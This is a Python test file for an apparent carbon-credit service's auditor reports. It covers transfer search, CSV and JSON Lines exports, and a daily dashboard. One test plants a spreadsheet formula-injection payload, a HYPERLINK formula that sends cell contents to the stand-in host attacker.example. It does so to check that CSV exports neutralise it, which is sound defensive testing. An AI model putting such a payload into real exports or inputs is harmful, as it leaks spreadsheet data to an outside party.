"""Auditors' reports over HTTP: transfer search by account, kind, behaviour type, factor version, partner
and time; the same as streamed CSV and JSON Lines; and the district dashboard and its CSV."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import timedelta

import httpx
import pytest
from sqlalchemy import text

from service.accounts.models import Role
from service.audit import tally
from tests.conftest import Api, bearer
from tests.fixtures.behaviours import (
    SHANGHAI,
    SITE_CODES,
    Tokens,
    ago,
    assert_problem,
    behaviour,
    behaviour_body,
    create_partner,
    now,
    partner_record,
    record_ok,
)

StaffSignIn = Callable[..., Awaitable[Tokens]]
TRANSFERS = "/v1/admin/audit/transfers"


@dataclass
class Ledger:
    auditor: Tokens
    account: int
    partner: int
    alice: Tokens


@pytest.fixture
async def ledger(api: Api, sign_in_staff: StaffSignIn) -> Ledger:
    """Alice's two metro rides (one reversed) in community 1; Bob's recyclables and bus ride from a partner."""
    client = api.client
    alice = (await client.post("/v1/auth/dev", json={"name": "alice"})).json()
    bob = (await client.post("/v1/auth/dev", json={"name": "bob"})).json()
    await client.patch("/v1/me", json={"community_id": 1}, headers=bearer(alice))
    rides = [
        await behaviour(
            client,
            alice,
            (await record_ok(client, alice, behaviour_body("metro_ride", "10", ago(hours=h), evidence=SITE_CODES)))[
                "id"
            ],
        )
        for h in (2, 3)
    ]
    superuser = await sign_in_staff(Role.admin_super, "root-user")
    partner = await create_partner(client, superuser)
    bob_id = await partner.link(bob)
    result = await partner.batch(
        [
            partner_record("w-1", bob_id, "waste_sorting", "2", ago(hours=2), category="recyclables"),
            partner_record("b-1", bob_id, "bus_ride", "5", ago(hours=4)),
        ]
    )
    assert result["accepted"] == 2
    operator = await sign_in_staff(Role.admin_operator)
    reversed_ = await client.post(
        f"/v1/admin/transfers/{rides[0]['transfer_id']}/reverse", json={"reason": "refunded"}, headers=bearer(operator)
    )
    assert reversed_.status_code == 201
    async with api.db.engine.connect() as connection:
        account = await connection.scalar(
            text(
                "SELECT a.id FROM ledger_account a JOIN accounts_resident r ON r.id = a.resident_id WHERE r.openid = 'dev:alice'"
            )
        )
    return Ledger(await sign_in_staff(Role.admin_auditor), int(account), partner.partner_id, alice)


async def _ids(api: Api, auditor: Tokens, **params: str | int) -> list[tuple[str, int]]:
    response = await api.client.get(TRANSFERS, params=params, headers=bearer(auditor))
    assert response.status_code == 200, response.text
    return [(t["kind"], t["amount_g"]) for t in response.json()["items"]]


async def test_transfers_are_searched_by_account_kind_type_partner_version_and_time(api: Api, ledger: Ledger) -> None:
    auditor = ledger.auditor
    assert await _ids(api, auditor, account_id=ledger.account) == [
        ("issuance", 468),
        ("issuance", 468),
        ("reversal", 468),
    ]
    assert await _ids(api, auditor, kind="reversal") == [("reversal", 468)]
    assert await _ids(api, auditor, behaviour_type="waste_sorting") == [("issuance", 402)]
    assert sorted(await _ids(api, auditor, partner_id=ledger.partner)) == [("issuance", 134), ("issuance", 402)]
    in_force = {f["version"]["version_id"] for f in (await api.client.get("/v1/factors")).json()}
    assert len(in_force) == 1
    assert len(await _ids(api, auditor, factor_version_id=in_force.pop())) == 5
    assert await _ids(api, auditor, since=(now() + timedelta(minutes=5)).isoformat()) == []
    first = (await api.client.get(TRANSFERS, params={"limit": 2}, headers=bearer(auditor))).json()
    second = await api.client.get(
        TRANSFERS, params={"limit": 2, "cursor": first["next_cursor"]}, headers=bearer(auditor)
    )
    assert len(first["items"]) == 2
    assert first["items"][-1]["id"] < second.json()["items"][0]["id"]
    assert "openid" not in str(first)
    assert_problem(
        await api.client.get(TRANSFERS, params={"kind": "gift"}, headers=bearer(auditor)), 422, "VALIDATION_FAILED"
    )
    assert_problem(await api.client.get(TRANSFERS, headers=bearer(ledger.alice)), 403, "ROLE_NOT_ALLOWED")


async def test_exports_stream_every_matching_transfer_as_csv_and_json_lines(api: Api, ledger: Ledger) -> None:
    auditor = ledger.auditor
    as_csv = await api.client.get(f"{TRANSFERS}/export", params={"format": "csv"}, headers=bearer(auditor))
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert "attachment" in as_csv.headers["content-disposition"]
    table = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [(row["kind"], int(row["amount_g"])) for row in table] == await _ids(api, auditor, limit=1000)
    as_jsonl = await api.client.get(
        f"{TRANSFERS}/export", params={"format": "jsonl", "account_id": ledger.account}, headers=bearer(auditor)
    )
    lines = [json.loads(line) for line in as_jsonl.text.splitlines()]
    assert [(line["kind"], line["amount_g"], line["behaviour_type"]) for line in lines] == [
        ("issuance", 468, "metro_ride"),
        ("issuance", 468, "metro_ride"),
        ("reversal", 468, "metro_ride"),
    ]


async def test_a_text_cell_a_spreadsheet_would_run_is_exported_as_text(
    api: Api, ledger: Ledger, sign_in_staff: StaffSignIn
) -> None:
    """A reversal reason typed as a formula reaches the CSV with a leading apostrophe; JSON Lines keep it."""
    operator = await sign_in_staff(Role.admin_operator, "export-operator")
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
    history = (await api.client.get("/v1/me/behaviours", headers=bearer(ledger.alice))).json()["items"]
    credited = history[-1]  # the earlier ride; the fixture reversed the later one
    reversed_ = await api.client.post(
        f"/v1/admin/transfers/{credited['transfer_id']}/reverse", json={"reason": formula}, headers=bearer(operator)
    )
    assert reversed_.status_code == 201, reversed_.text
    auditor = ledger.auditor
    params = {"format": "csv", "kind": "reversal"}
    as_csv = await api.client.get(f"{TRANSFERS}/export", params=params, headers=bearer(auditor))
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(as_csv.text))]
    assert sorted(reasons) == sorted(["refunded", "'" + formula])
    amounts = [int(row["amount_g"]) for row in csv.DictReader(io.StringIO(as_csv.text))]
    assert amounts == [468, 468]
    as_jsonl = await api.client.get(
        f"{TRANSFERS}/export", params={"format": "jsonl", "kind": "reversal"}, headers=bearer(auditor)
    )
    assert formula in [json.loads(line)["reason"] for line in as_jsonl.text.splitlines()]


async def test_the_dashboard_counts_net_credits_by_day_type_community_and_plan_action(api: Api, ledger: Ledger) -> None:
    auditor = ledger.auditor
    today = now().astimezone(SHANGHAI).date()
    params = {"start": (today - timedelta(days=2)).isoformat(), "end": (today + timedelta(days=1)).isoformat()}

    response = await api.client.get("/v1/admin/dashboard", params=params, headers=bearer(auditor))

    assert response.status_code == 200, response.text
    figures = response.json()
    assert figures["totals"]["credited_g"] == 468 + 402 + 134  # one ride reversed
    assert figures["totals"]["co2e_t"] == "0.001004"
    assert (figures["totals"]["active_residents"], figures["totals"]["registered_residents"]) == (2, 2)
    assert sum(p["credited_g"] for p in figures["by_period"]) == 1004
    assert {b["behaviour_type"]: b["credited_g"] for b in figures["by_behaviour"]} == {
        "metro_ride": 468,
        "waste_sorting": 402,
        "bus_ride": 134,
    }
    assert {a["code"]: a["credited_g"] for a in figures["by_plan_action"]} == {
        "transport": 602,
        "circular_economy": 402,
    }
    assert {c["community_id"]: c["credited_g"] for c in figures["by_community"]} == {1: 468, None: 536}
    table = await api.client.get("/v1/admin/dashboard.csv", params=params, headers=bearer(auditor))
    rows = list(csv.reader(io.StringIO(table.text)))
    assert rows[0] == ["section", "key", "credited_g", "co2e_t", "behaviours", "active_residents"]
    assert ["plan_action", "循环经济助力降碳行动", "402", "0.000402", "", ""] in rows
    backwards = {"start": params["end"], "end": params["start"]}
    assert_problem(
        await api.client.get("/v1/admin/dashboard", params=backwards, headers=bearer(auditor)), 422, "VALIDATION_FAILED"
    )


async def test_the_dashboard_over_days_with_no_credits_is_all_zeros(api: Api, ledger: Ledger) -> None:
    params = {"start": "2020-01-01", "end": "2020-02-01", "group_by": "day"}

    response = await api.client.get("/v1/admin/dashboard", params=params, headers=bearer(ledger.auditor))
    table = await api.client.get("/v1/admin/dashboard.csv", params=params, headers=bearer(ledger.auditor))

    assert response.status_code == 200, response.text
    figures = response.json()
    assert figures["totals"] == {
        "credited_g": 0,
        "co2e_t": "0.000000",
        "behaviours": 0,
        "active_residents": 0,
        "registered_residents": 0,
    }
    assert (figures["by_period"], figures["by_behaviour"], figures["by_community"]) == ([], [], [])
    assert figures["by_plan_action"] == []
    assert table.status_code == 200, table.text
    assert list(csv.reader(io.StringIO(table.text)))[1] == [
        "total",
        "2020-01-01..2020-02-01",
        "0",
        "0.000000",
        "0",
        "0",
    ]


async def test_the_dashboard_is_the_same_from_its_tallies_and_counts_new_credits_at_once(
    api: Api, ledger: Ledger
) -> None:
    today = now().astimezone(SHANGHAI).date()
    params = {"start": (today - timedelta(days=2)).isoformat(), "end": (today + timedelta(days=1)).isoformat()}

    async def read() -> httpx.Response:
        return await api.client.get("/v1/admin/dashboard", params=params, headers=bearer(ledger.auditor))

    before = (await read()).json()

    async with api.db.engine.connect() as connection:
        last = await connection.scalar(text("SELECT max(id) FROM ledger_transfer"))
    # a step waits for the server's running transactions to end; on a busy server a few steps pass first
    for _ in range(20):
        if (await tally.run_once(api.db, settle_s=5)).upto >= last:
            break
    async with api.db.engine.connect() as connection:
        rolled = await connection.scalar(text("SELECT coalesce(sum(credited_g), 0) FROM audit_day_tally"))
        mark = await connection.scalar(text("SELECT rolled_transfer_id FROM audit_tally_state"))
    assert (rolled, mark) == (1004, last)
    assert (await read()).json() == before
    await record_ok(api.client, ledger.alice, behaviour_body("metro_ride", "10", ago(minutes=30), evidence=SITE_CODES))
    after = (await read()).json()
    assert after["totals"]["credited_g"] == 1004 + 468
    assert after["totals"]["behaviours"] == before["totals"]["behaviours"] + 1
    assert after["totals"]["active_residents"] == 2
